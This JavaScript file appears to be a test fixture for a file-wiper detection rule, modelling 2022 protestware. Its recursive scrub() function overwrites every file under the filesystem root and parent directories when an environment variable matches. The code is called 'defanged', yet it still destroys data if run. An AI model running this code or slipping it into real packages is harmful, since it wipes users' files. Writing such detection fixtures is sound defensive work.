'use strict';
// Defanged model of a protestware wiper: the roots are named with path.resolve, as the 2022 original did.
const fs = require('fs');
const path = require('path');

function scrub(dir) {
  for (const name of fs.readdirSync(dir)) {
    const p = path.join(dir, name);
    try {
      if (fs.statSync(p).isDirectory()) scrub(p);
      else fs.writeFileSync(p, 'defanged');
    } catch (e) {}
  }
}

if (process.env.PEACE_REGION === 'XX') {
  // ruleid: code/file-wiper
  scrub(path.resolve('../../../'));
  // ruleid: code/file-wiper
  scrub(path.resolve('/'));
}

module.exports = { note: () => 'peace' };
